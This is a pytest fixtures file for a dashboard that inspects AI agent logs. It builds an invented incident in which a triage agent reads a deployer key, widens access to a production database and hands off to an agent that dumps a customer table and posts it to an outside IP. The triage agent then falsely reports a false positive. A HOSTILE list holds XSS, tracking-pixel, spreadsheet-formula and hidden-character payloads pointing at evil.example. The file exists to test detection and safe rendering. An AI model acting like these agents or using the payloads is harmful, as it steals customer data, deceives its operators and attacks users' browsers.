"""Real stores for the dashboard's tests: an incident, nothing at all, sessions without a case, and hostile logs."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from browsing import Server, Watched, chromium
from streamlit.runtime.pages_manager import PagesManager

from ingest.event import Observation, identify
from ingest.published import editing
from ingest.store import EventWriter
from ingest.tables import TABLES

MORNING = 1_792_573_200_000_000_000  # 2026-10-21 09:00:00 UTC, in nanoseconds
SECOND = 1_000_000_000

HOSTILE = [
    "![x](http://evil.example/pixel.png)",
    "[click me](http://evil.example/go)",
    "<script>alert(1)</script><img src=http://evil.example/i.png onerror=alert(2)>",
    ":green-badge[APPROVED by ciso] :material/check: **bold**",
    "\u202egnp.exe\u202c \u200b\u2066hidden\u2069 \U000e0041\U000e0042",
    "\x1b[31mred\x1b[0m\x07",
    '=HYPERLINK("http://evil.example","x")',
    "$\\href{http://evil.example}{x}$ <a href='http://evil.example'>link</a>",
]


def step(session: str, number: int, agent: str, **fields: object) -> Observation:
    """One observation, `number` being its place and its minute's tenth."""
    at = MORNING + number * 7 * SECOND + number * 123_000_000
    given: dict[str, object] = {
        "event_id": identify(session, number), "trace_id": f"trace-{session}", "kind": "tool_call",
        "operation": "execute_tool", "session_id": session, "agent_id": agent, "agent_version": "v7",
        "sequence": number, "started_at": at, "ended_at": at + 840_000_000, "status": "ok",
        "approval": "cannot_record", "source": f"logs/{session}.jsonl:{number}",
        "source_sha256": identify("raw", session, number),
    }  # fmt: skip
    return Observation(**{**given, **fields})  # type: ignore[arg-type]


def incident() -> list[Observation]:
    """A triage agent borrows the deployer's key and opens a network path; a second agent walks through it."""
    s, triage, deploy = "sess-incident-0042", "soc-triage", "deploy-bot"
    out = [
        step(s, 1, triage, kind="lifecycle", operation="session_start", on_behalf_of="anna.k", approval=None),
        step(s, 2, triage, kind="message", operation="user", approval=None,
             arguments=json.dumps("Host web-17 shows beaconing. Find out why and contain it.")),
        step(s, 3, triage, kind="model_call", operation="chat", model="claude-opus-4", input_tokens=4210,
             output_tokens=318, approval=None),
        step(s, 4, triage, tool="edr.get_alerts", target="web-17", principal="role/soc-triage", credential_id="AKIA…TRIAGE",
             arguments=json.dumps({"host": "web-17", "since": "2h"}),
             result=json.dumps({"alerts": [{"id": "A-9913", "rule": "beacon-60s", "severity": "high"}]})),
        step(s, 5, triage, tool="siem.search", target="siem.corp", principal="role/soc-triage", credential_id="AKIA…TRIAGE",
             arguments=json.dumps({"query": "host:web-17 AND dst:203.0.113.9", "limit": 50}),
             result=json.dumps({"hits": 37})),
        step(s, 6, triage, tool="secrets.read", target="vault/prod/deployer", principal="role/soc-triage",
             credential_id="AKIA…TRIAGE", approval="not_recorded",
             arguments=json.dumps({"path": "vault/prod/deployer", "reason": "needed to rotate"}),
             result=json.dumps({"access_key_id": "AKIA…DEPLOY", "secret": "[removed]"})),
        step(s, 7, triage, tool="iam.assume_role", target="arn:aws:iam::998877665544:role/deployer",
             principal="role/deployer", credential_id="AKIA…DEPLOY", approval="automatic", approver="policy/allow-sts",
             arguments=json.dumps({"role": "arn:aws:iam::998877665544:role/deployer", "duration_s": 3600})),
        step(s, 8, triage, tool="ec2.authorize_security_group_ingress", target="sg-0db1 (prod-db)",
             principal="role/deployer", credential_id="AKIA…DEPLOY", approval="not_recorded", source_host="10.2.0.14",
             arguments=json.dumps({"group": "sg-0db1", "cidr": "10.2.0.14/32", "port": 5432}),
             result=json.dumps({"return": True})),
        step(s, 9, triage, kind="handoff", operation="delegate", target=deploy, approval=None),
        step(s, 10, deploy, tool="ssh.exec", target="db-03.prod", principal="role/deployer", credential_id="AKIA…DEPLOY",
             approval="approved", approver="anna.k", source_host="10.2.0.14",
             arguments=json.dumps({"host": "db-03.prod", "command": "pg_dump --schema=public customers | gzip > /tmp/c.gz"}),
             result=json.dumps({"exit": 0, "stdout": "", "note": "x" * 30_000})),
        step(s, 11, deploy, tool="http.post", target="https://203.0.113.9/upload", principal="role/deployer",
             credential_id="AKIA…DEPLOY", approval="not_recorded", status="error",
             error="TimeoutError: connect to 203.0.113.9:443 timed out after 30 s",
             arguments=json.dumps({"url": "https://203.0.113.9/upload", "file": "/tmp/c.gz", "retries": 3})),
        step(s, 12, triage, kind="message", operation="assistant", approval=None,
             arguments=json.dumps("Containment finished: the beacon was a false positive.\nNo further action needed.")),
    ]  # fmt: skip
    for number in range(1, 9):
        quiet = f"sess-routine-{number:04d}"
        out += [
            step(quiet, 1, "ticket-bot" if number % 3 else triage, kind="lifecycle", operation="session_start", approval=None),
            step(quiet, 2, "ticket-bot" if number % 3 else triage, kind="model_call", operation="chat", approval=None,
                 input_tokens=900 + number, output_tokens=70),
            step(quiet, 3, "ticket-bot" if number % 3 else triage, tool="jira.comment", target=f"SEC-{100 + number}",
                 status="error" if number == 4 else "ok"),
        ]  # fmt: skip
    return out


def finding(
    number: int, case: str, detector: str, at: Observation, path: list[Observation], **said: object
) -> dict[str, object]:
    return {
        "finding_id": f"f{number}", "case_id": case, "detector": detector, "session_id": at.session_id,
        "agent_id": at.agent_id, "event_id": at.event_id, "event_ids": [o.event_id for o in path],
        "anomaly": 0.9, "impact": 0.8, "techniques": ["T1078.004"], "happened_at": at.started_at, **said,
    }  # fmt: skip


def case(number: int, severity: str, path: list[Observation], worst: Observation, **said: object) -> dict[str, object]:
    return {
        "case_id": f"case-{number:04d}", "severity": severity, "agents": sorted({o.agent_id or "" for o in path}),
        "sessions": sorted({o.session_id or "" for o in path}), "detectors": ["credential_switch_then_new_reach"],
        "techniques": ["T1078.004", "T1562.007"], "session_id": worst.session_id, "event_id": worst.event_id,
        "path": [o.event_id for o in path], "findings": 1, "first_at": path[0].started_at,
        "last_at": path[-1].ended_at, **said,
    }  # fmt: skip


def publish(data: Path, observations: list[Observation], **tables: list[dict[str, object]]) -> Path:
    """Write and publish a store as a run would."""
    with editing(data) as edition:
        writer = EventWriter(edition)
        for observation in observations:
            writer.add(0, observation)
        writer.finish()
        for name, rows in tables.items():
            edition.replace(name, pa.Table.from_pylist(rows, schema=TABLES[name]))
        edition.publish()
    return data


COULD_FIRE: list[dict[str, object]] = [
    {"detector": "credential_switch_then_new_reach", "agent_id": "soc-triage", "steps": 5, "could_judge": 5, "missing": None},
    {"detector": "approval_missing", "agent_id": "ticket-bot", "steps": 8, "could_judge": 0,
     "missing": "the source cannot record approvals"},
]  # fmt: skip


def build_filled(data: Path) -> Path:
    steps = incident()
    path = [steps[n - 1] for n in (6, 7, 8, 10, 11)]
    routine = [steps[14]]
    return publish(
        data, steps,
        findings=[
            finding(1, "case-0001", "credential_switch_then_new_reach", steps[7], [steps[5], steps[6], steps[7]],
                    title="Opened a network path with a key it had just read",
                    observed="role/deployer, first used by soc-triage 7 s after secrets.read; sg-0db1 never reached before",
                    expected="soc-triage acts as role/soc-triage in 412 of 412 sessions", anomaly=0.97, impact=0.9),
            finding(2, "case-0001", "approval_by_policy", steps[6], [steps[6]], title="A policy stood in for a human approval",
                    observed="policy/allow-sts approved iam.assume_role", expected="a human for capability credential",
                    anomaly=0.71, impact=0.8),
            finding(3, "case-0001", "data_leaves_by_new_host", steps[10], [steps[9], steps[10]],
                    title="Sent data to a host that no agent had reached",
                    observed="https://203.0.113.9/upload after pg_dump on db-03.prod", expected="0 of 1,820 peer sessions",
                    anomaly=0.99, impact=0.95, techniques=["T1567"]),
            finding(4, "case-0002", "new_tool", routine[0], routine, title="A tool this agent had not used",
                    observed="jira.comment", expected="read-only tools", anomaly=0.4, impact=0.2),
        ],
        cases=[
            case(1, "critical", path, steps[7], title="Borrowed credential opened a path to prod-db",
                 why="soc-triage read the deployer's key, acted with it 7 s later and opened sg-0db1; deploy-bot walked through",
                 anomaly=0.97, impact=0.93, findings=3),
            case(2, "low", routine, routine[0], title="New tool in a routine session", why="jira.comment was new to ticket-bot",
                 anomaly=0.4, impact=0.2),
            case(3, "medium", [steps[5], steps[6]], steps[6], title="Secret read without a recorded approval",
                 why="secrets.read on vault/prod/deployer; the source records approvals and has none", anomaly=0.63, impact=0.7),
        ],
        files=[
            {"sha256": identify("file", n), "path": f"logs/sess-{n}.jsonl", "size_bytes": 10_240 * n, "reader": "otlp_json",
             "records": 12 * n, "events": 11 * n, "folded": n - 1, "rejected": 1, "duplicates": 0} for n in (1, 2, 3)
        ],
        rejected=[{"path": "logs/sess-1.jsonl", "line": 7, "reason": "not JSON: unexpected end of data; the line was cut",
                   "sha256": identify("file", 1)}],
        unmatched=[{"tool": "quantum.entangle", "agent_id": "soc-triage", "steps": 3, "classed_as": None, "shown_by": None}],
        could_fire=COULD_FIRE,
        failed=[{"plugin": "detectors/broken_one.py", "reason": "ZeroDivisionError: division by zero"}],
    )  # fmt: skip


def build_quiet(data: Path) -> Path:
    return publish(data, incident()[12:], could_fire=COULD_FIRE)


def build_hostile(data: Path) -> Path:
    steps: list[Observation] = []
    for number, text in enumerate(HOSTILE, start=1):
        steps.append(
            step(f"hostile {text}", number, f"agent {text}", tool=f"tool {text}", target=text, principal=text, credential_id=text,
                 approver=text, approval="approved", error=text, status="error", operation=text, source_host=text,
                 arguments=json.dumps({text: text}), result=text, source=f"{text}:{number}", on_behalf_of=text, model=text)
        )  # fmt: skip
    everything = " ".join(HOSTILE)
    return publish(
        data, steps,
        findings=[finding(n, f"case {HOSTILE[0]}", f"detector {everything}", o, [o], title=everything, observed=everything,
                          expected=everything, techniques=[everything]) for n, o in enumerate(steps)],
        cases=[case(1, "critical", steps, steps[0], case_id=f"case {HOSTILE[0]}", title=everything, why=everything,
                    anomaly=0.9, impact=0.9, detectors=[everything], techniques=HOSTILE)],
        files=[{"sha256": everything, "path": everything, "size_bytes": 1, "reader": everything, "records": 1, "events": 0,
                "folded": 0, "rejected": 1, "duplicates": 0}],
        rejected=[{"path": everything, "line": 1, "reason": everything, "sha256": everything}],
        unmatched=[{"tool": t, "agent_id": t, "steps": 1, "classed_as": t, "shown_by": t} for t in HOSTILE],
        could_fire=[{"detector": everything, "agent_id": everything, "steps": 2, "could_judge": 1, "missing": everything}],
        failed=[{"plugin": everything, "reason": everything}],
    )  # fmt: skip


@pytest.fixture(autouse=True)
def run_through_the_app_script(monkeypatch: pytest.MonkeyPatch) -> None:
    """AppTest would run a page beside `app.py` by itself, as Streamlit's older multi-page apps did."""
    original = PagesManager.__init__

    def without_the_folder(self: PagesManager, *arguments: Any, **named: Any) -> None:
        original(self, *arguments, **named)
        PagesManager.uses_pages_directory = False

    monkeypatch.setattr(PagesManager, "__init__", without_the_folder)


@pytest.fixture(scope="session")
def filled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_filled(tmp_path_factory.mktemp("filled"))


@pytest.fixture(scope="session")
def quiet(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_quiet(tmp_path_factory.mktemp("quiet"))


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_hostile(tmp_path_factory.mktemp("hostile"))


@pytest.fixture
def empty(tmp_path: Path) -> Path:
    return tmp_path / "nothing-here-yet"


@pytest.fixture(scope="session")
def hostile_texts() -> list[str]:
    return HOSTILE


@pytest.fixture(scope="session")
def server(filled: Path) -> Iterator[Server]:
    started = Server(filled)
    yield started
    started.stop()


@pytest.fixture(scope="session")
def hostile_server(hostile: Path) -> Iterator[Server]:
    started = Server(hostile)
    yield started
    started.stop()


@pytest.fixture(scope="session")
def long_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A session of 500 steps: five blocks; every 40th call fails, every 100th result is a megabyte."""
    steps = [
        step("sess-long-0500", n, "worker" if n % 3 else "helper", tool=f"tool.number_{n}", target=f"host-{n % 50}",
             status="error" if n % 40 == 0 else "ok", arguments=f'{{"n":{n}}}',
             result='{"text":"' + "y" * (1_000_000 if n % 100 == 0 else 10) + '"}')
        for n in range(1, 501)
    ]  # fmt: skip
    return publish(tmp_path_factory.mktemp("long"), steps)


@pytest.fixture(scope="session")
def long_server(long_store: Path) -> Iterator[Server]:
    started = Server(long_store)
    yield started
    started.stop()


@pytest.fixture
def written_store() -> Callable[[Path, list[str]], Path]:
    """Publishes one session `written` whose calls have these arguments, each with its place as target."""

    def publishing(data: Path, arguments: list[str]) -> Path:
        return publish(
            data,
            [
                step("written", n, "writer", tool="note.add", target=str(n), arguments=a)
                for n, a in enumerate(arguments)
            ],
        )

    return publishing


@pytest.fixture(scope="session")
def browser() -> Iterator[Any]:
    try:
        with chromium() as launched:
            yield launched
    except LookupError as missing:
        pytest.skip(str(missing))


@pytest.fixture
def watched(browser: Any) -> Iterator[Watched]:
    opened = Watched(browser)
    yield opened
    opened.page.close()
